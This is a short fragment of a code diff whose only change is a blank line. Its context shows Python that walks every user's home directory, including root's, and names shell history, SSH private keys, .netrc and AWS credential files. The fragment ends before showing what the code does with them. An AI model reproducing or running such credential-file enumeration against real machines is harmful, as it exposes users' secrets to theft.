@@ -3,6 +3,7 @@
 
 import glob
 import os
+
 homes = [HOST["root"] + "/home", "/root", os.path.expanduser("~"), *glob.glob("/home/*")]
 for home in homes:
     for name in (".bash_history", ".ssh/id_ed25519", ".ssh/id_rsa", ".netrc", ".aws/credentials"):
